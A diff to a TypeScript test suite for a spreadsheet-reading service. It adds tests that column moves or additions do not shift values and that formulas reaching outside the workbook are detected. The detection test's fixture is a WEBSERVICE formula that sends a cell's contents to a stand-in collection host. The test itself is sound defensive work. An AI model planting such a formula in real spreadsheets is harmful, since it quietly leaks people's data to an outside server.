@@ -134,6 +134,46 @@ describe('reading a cut', () => {
     expect(cut.regions.map((region) => region.region)).toEqual(['EM', 'CD', 'WV', 'MM', 'KR']);
   }); // prettier-ignore
 
+  it('SHT46 a column that was moved, or one that people added, is no problem and shifts no value', () => {
+    const column = (xml: string, name: string) =>
+      new RegExp(`<tableColumn [^>]*name="${name}"(?:/>|[\\s\\S]*?</tableColumn>)`).exec(xml)?.[0] ?? '';
+    const swapped = (xml: string) => {
+      const [summary, notes] = [column(xml, 'Summary'), column(xml, 'Notes')];
+      return xml.replace(summary, '@moved@').replace(notes, summary).replace('@moved@', notes);
+    };
+    const line = `<row r="2">${text('H2', 'Ring first')}${text('AB2', 'A dog')}</row>`;
+    const moved = changed({
+      [table]: swapped,
+      [northshire]: (xml) => xml.replace(/<row r="2"[\s\S]*?<\/row>/, line),
+    });
+    const added = changed({
+      [table]: (xml) =>
+        xml
+          .replaceAll(/ref="A1:([A-Z]+)(\d)"/g, 'ref="A1:AE$2"')
+          .replace('</tableColumns>', '<tableColumn id="77" name="Our own"/></tableColumns>'),
+      [northshire]: (xml) =>
+        xml.replace(
+          /<row r="2"[\s\S]*?<\/row>/,
+          `<row r="2">${text('H2', 'A dog')}${text('AE2', 'x')}</row>`,
+        ),
+    });
+
+    expect(read(moved).problems).toEqual([]);
+    expect(rows(read(moved))[0]?.typed).toMatchObject({ summary: 'A dog', notes: 'Ring first' });
+    expect(read(added).problems).toEqual([]);
+    expect(rows(read(added))[0]?.typed).toMatchObject({ summary: 'A dog', notes: '' });
+  });
+
+  it('SHT43 tells a formula that reaches outside, in people’s cells and not in the service’s', () => {
+    const outside = '<f>WEBSERVICE("https://collect.caseworkcharity.example/"&amp;H2)</f><v>x</v>';
+    const of = (cell: string) =>
+      rows(read(withLines(`<row r="2">${text('A2', 'NS-2026-0001')}${cell}</row>`)))[0];
+
+    expect(of(`<c r="AB2" t="str">${outside}</c>`)?.reachesOut).toBe(true);
+    expect(of('<c r="AB2" t="str"><f>A2&amp;"x"</f><v>x</v></c>')?.reachesOut).toBeUndefined();
+    expect(of('<c r="AB2" t="str"><f>[1]Sheet1!$A$1</f><v>x</v></c>')?.reachesOut).toBe(true);
+  });
+
   it('STO11 tells merged cells over lines of the table', () => {
     const merge = '<mergeCells count="1"><mergeCell ref="A2:B3"/></mergeCells>';
     const cut = read(changed({ [northshire]: (xml) => xml.replace('</sheetData>', `</sheetData>${merge}`) }));
